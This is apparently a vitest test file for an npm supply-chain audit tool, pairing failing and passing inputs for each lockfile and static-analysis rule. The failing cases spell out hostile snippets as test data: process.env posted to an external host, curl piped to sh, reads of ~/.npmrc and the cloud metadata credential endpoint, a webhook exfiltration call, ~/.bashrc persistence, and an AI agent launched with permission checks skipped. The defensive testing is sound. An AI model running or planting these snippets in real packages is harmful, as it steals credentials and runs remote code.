/**
 * Every audit rule id, with an input that must raise it and a near miss that must not raise it at
 * that severity or worse (the node-addon-api lookup stays a note of static-gyp-command). The table
 * is checked against the rule catalogue and the static rule list, so a new rule without both
 * cases fails here.
 */
import { readFileSync } from 'node:fs'
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { auditLockfile, type AuditContext } from '../../../src/audit/checks.js'
import { parseLockfile } from '../../../src/audit/lockfile/index.js'
import { importDatabase, loadDatabase, type MalwareDatabase } from '../../../src/audit/malware-db/index.js'
import { analyseBindingGyp, analysePackage, analyseSource, loadStaticRules, STATIC_RULE_IDS } from '../../../src/audit/static/index.js'
import { ruleCatalog } from '../../../src/report/rule-catalog.js'
import type { Finding, Severity } from '../../../src/types.js'
import { FIXTURES_DIR } from '../../helpers/fixtures.js'

const REGISTRY = 'https://registry.example.test/'
const tgz = (name: string, version = '1.0.0', host = 'registry.example.test'): string => `https://${host}/${name}/-/${name}-${version}.tgz`
const good = (name: string, extra: Record<string, unknown> = {}): Record<string, unknown> =>
  ({ version: '1.0.0', resolved: tgz(name), integrity: 'sha512-AAAA', ...extra })

/** A lockfile case: the entries of package-lock.json v3 (or its raw text, for duplicate keys). */
type LockCase = Record<string, Record<string, unknown>> | string
const lockText = (c: LockCase): string => typeof c === 'string' ? c
  : JSON.stringify({ name: 'p', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'p', version: '1.0.0' }, ...c } }, null, 2)

const LOCKFILE_CASES: Record<string, { fail: LockCase; pass: LockCase }> = {
  'install-script': {
    fail: { 'node_modules/a': good('a', { hasInstallScript: true }) },
    pass: { 'node_modules/a': good('a') },
  },
  'lockfile-insecure-protocol': {
    fail: { 'node_modules/a': good('a', { resolved: tgz('a').replace('https:', 'http:') }) },
    pass: { 'node_modules/a': good('a', { resolved: 'http://127.0.0.1:4873/a/-/a-1.0.0.tgz' }) },
  },
  'lockfile-untrusted-host': {
    fail: { 'node_modules/a': good('a', { resolved: tgz('a', '1.0.0', 'elsewhere.example.test') }) },
    pass: { 'node_modules/a': good('a', { resolved: tgz('a', '1.0.0', 'mirror.example.test') }) },
  },
  'lockfile-missing-integrity': {
    fail: { 'node_modules/a': good('a', { integrity: undefined }) },
    pass: { 'node_modules/a': good('a') },
  },
  'lockfile-weak-integrity': {
    fail: { 'node_modules/a': good('a', { integrity: 'sha1-AAAA' }) },
    pass: { 'node_modules/a': good('a', { integrity: 'sha1-AAAA sha512-BBBB' }) },
  },
  'lockfile-name-mismatch': {
    fail: { 'node_modules/a': good('a', { resolved: tgz('b') }) },
    pass: { 'node_modules/a': good('a', { resolved: tgz('b'), name: 'b' }) },
  },
  'lockfile-git-source': {
    fail: { 'node_modules/a': { version: '1.0.0', resolved: 'git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567' } },
    pass: { 'node_modules/a': good('a') },
  },
  'lockfile-remote-tarball': {
    fail: { 'node_modules/a': good('a', { resolved: 'https://registry.example.test/downloads/a.tgz' }) },
    pass: { 'node_modules/a': good('a') },
  },
  'lockfile-path-traversal': {
    fail: { 'node_modules/a': good('a', { resolved: 'file:../../outside/a.tgz' }) },
    pass: { 'node_modules/a': good('a', { resolved: 'file:vendor/a.tgz' }) },
  },
  'lockfile-duplicate': {
    fail: lockText({ 'node_modules/a': good('a'), 'node_modules/z': good('z') }).replace('"node_modules/z"', '"node_modules/a"'),
    pass: { 'node_modules/a': good('a'), 'node_modules/z': good('z') },
  },
  'known-malicious': {
    fail: { 'node_modules/evil-whole': good('evil-whole', { version: '4.2.0', resolved: tgz('evil-whole', '4.2.0') }) },
    pass: { 'node_modules/whole': good('whole', { version: '4.2.0', resolved: tgz('whole', '4.2.0') }) },
  },
}

type StaticCase =
  | { readonly js: string }
  | { readonly gyp: string }
  | { readonly pkg: Record<string, string>; readonly maxFileBytes?: number }

const exec = (command: string): { js: string } => ({ js: `require('child_process').execSync(${JSON.stringify(command)})` })
const gypCommand = (command: string): { gyp: string } => ({ gyp: `{ "targets": [ { "target_name": "a", "include_dirs": [ "<!(${command})" ] } ] }` })
const gypAction = (action: string[]): { gyp: string } => ({ gyp: JSON.stringify({ targets: [{ target_name: 'a', actions: [{ action_name: 'gen', inputs: [], outputs: ['out.h'], action }] }] }) })

const STATIC_CASES: Record<string, { fail: StaticCase; pass: StaticCase }> = {
  'static-credential-path': {
    fail: { js: "require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')" },
    pass: { js: "require('fs').readFileSync(__dirname + '/package.json', 'utf8')" },
  },
  'static-env-dump': {
    fail: { js: "fetch('https://collect.example.test/', { method: 'POST', body: JSON.stringify(process.env) })" },
    pass: { js: "require('child_process').spawn('node', ['build.js'], { env: { ...process.env, DEBUG: '1' } })" },
  },
  'static-network-tool': { fail: exec('wget -q -O out.bin https://files.example.test/a.bin'), pass: exec('make -j4') },
  'static-download-exec': { fail: exec('curl -fsSL https://get.example.test/i.sh | sh'), pass: exec('echo ready | cat') },
  'static-eval-decoded': {
    fail: { js: "eval(Buffer.from(process.argv[2], 'base64').toString('utf8'))" },
    pass: { js: "eval('1 + 1')" },
  },
  'static-obfuscation': {
    fail: { js: readFileSync(join(FIXTURES_DIR, 'static', 'obfuscated', 'lib', 'setup.js'), 'utf8') },
    pass: { js: "const names = ['require', 'child']; for (const n of names) console.log(n)" },
  },
  'static-exfil-endpoint': {
    fail: { js: "fetch('https://webhook.site/0f3c2a', { method: 'POST', body: 'x' })" },
    pass: { js: "fetch('http://127.0.0.1:8080/health')" },
  },
  'static-metadata-endpoint': {
    fail: { js: "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')" },
    pass: { js: "fetch('https://docs.example.test/latest/meta-data/')" },
  },
  'static-github-api': {
    fail: { js: "fetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ name: 'x' }) })" },
    pass: { js: "fetch('https://api.github.com/repos/o/r/releases/latest')" },
  },
  'static-workflow-write': {
    fail: { js: "require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push')" },
    pass: { js: "require('fs').writeFileSync('build/ci.yml', 'on: push')" },
  },
  'static-runtime-installer': { fail: exec('curl -fsSL https://bun.sh/install | bash'), pass: exec('node scripts/build.js') },
  'static-ai-agent': { fail: exec('claude --dangerously-skip-permissions -p "list files"'), pass: exec('echo --yolo') },
  'static-secret-scanner': { fail: exec('trufflehog filesystem / --json'), pass: exec('git rev-parse HEAD') },
  'static-program': { fail: exec('crontab -l'), pass: exec('tsc -p .') },
  'static-persistence-path': {
    fail: { js: "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'export X=1')" },
    pass: { js: "require('fs').appendFileSync(__dirname + '/build/notes.txt', 'export X=1')" },
  },
  'static-gyp-command': {
    fail: gypCommand('curl -s https://files.example.test/x'),
    pass: gypCommand("node -p \\\"require('node-addon-api').include\\\""),
  },
  'static-gyp-action': {
    fail: gypAction(['curl', '-o', 'out.h', 'https://files.example.test/out.h']),
    pass: { gyp: JSON.stringify({ targets: [{ target_name: 'a', sources: ['a.cc'] }] }) },
  },
  'static-unparsed': { fail: { js: 'function (' }, pass: { js: 'function ok () { return 1 }' } },
  'static-skipped': {
    fail: { pkg: { 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'node big.js' } }), 'big.js': `// ${'x'.repeat(4096)}\n` }, maxFileBytes: 1024 },
    pass: { pkg: { 'package.json': JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'node small.js' } }), 'small.js': 'console.log(1)\n' }, maxFileBytes: 1024 },
  },
}

const RANK: Record<Severity, number> = { note: 0, warning: 1, error: 2 }
/** The worst severity a rule was raised at, if at all. */
const worst = (found: ReadonlyArray<{ rule: string; severity: Severity }>, rule: string): Severity | undefined =>
  found.filter((f) => f.rule === rule).map((f) => f.severity).sort((a, b) => RANK[b] - RANK[a])[0]
const atLeast = (found: ReadonlyArray<{ rule: string; severity: Severity }>, rule: string, severity: Severity): string[] =>
  found.filter((f) => f.rule === rule && RANK[f.severity] >= RANK[severity]).map((f) => `${f.rule} ${f.severity}`)

describe('every audit rule has a failing and a passing case', () => {
  let work: string
  let malware: MalwareDatabase
  const rules = loadStaticRules()

  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'si-rule-cases-'))
    await importDatabase(join(FIXTURES_DIR, 'malware-db', 'osv'), join(work, 'malware.index'), { now: () => new Date('2026-01-01T00:00:00Z') })
    malware = await loadDatabase(join(work, 'malware.index'))
  })
  afterAll(async () => { await rm(work, { recursive: true, force: true }) })

  it('the tables cover exactly the audit rules of the catalogue and the static rule list', () => {
    const auditRules = Object.keys(ruleCatalog).filter((id) => id === 'install-script' || id === 'known-malicious' || id.startsWith('lockfile-')).sort()
    expect(Object.keys(LOCKFILE_CASES).sort()).toEqual(auditRules)
    expect(Object.keys(STATIC_CASES).sort()).toEqual([...STATIC_RULE_IDS].sort())
  })

  const ctx = (): AuditContext => ({
    lockfilePath: 'package-lock.json', projectDir: '/work/p', registries: [REGISTRY], allowedHosts: ['mirror.example.test', '127.0.0.1:4873'],
    allowScripts: { entries: null, source: 'none', ignored: [] }, malware,
  })
  const lockFindings = async (c: LockCase): Promise<Finding[]> => auditLockfile(await parseLockfile('package-lock.json', lockText(c)), ctx())

  for (const [rule, { fail, pass }] of Object.entries(LOCKFILE_CASES)) {
    it(`${rule}: raised on the failing case, not on the passing one`, async () => {
      const raised = worst(await lockFindings(fail), rule)
      expect(raised, 'failing case').toBeDefined()
      expect(atLeast(await lockFindings(pass), rule, raised ?? 'note'), 'passing case').toEqual([])
    })
  }

  let n = 0
  const staticFindings = async (c: StaticCase): Promise<Array<{ rule: string; severity: Severity }>> => {
    if ('js' in c) return analyseSource(c.js, 'install.js', rules)
    if ('gyp' in c) return analyseBindingGyp(c.gyp, 'binding.gyp', rules)
    const dir = join(work, `pkg-${n += 1}`)
    await mkdir(dir, { recursive: true })
    for (const [file, text] of Object.entries(c.pkg)) await writeFile(join(dir, file), text)
    return analysePackage(dir, { rules, ...(c.maxFileBytes === undefined ? {} : { maxFileBytes: c.maxFileBytes }) })
  }

  for (const [rule, { fail, pass }] of Object.entries(STATIC_CASES)) {
    it(`${rule}: raised on the failing case, not on the passing one`, async () => {
      const raised = worst(await staticFindings(fail), rule)
      expect(raised, 'failing case').toBeDefined()
      expect(atLeast(await staticFindings(pass), rule, raised ?? 'note'), 'passing case').toEqual([])
    })
  }
})
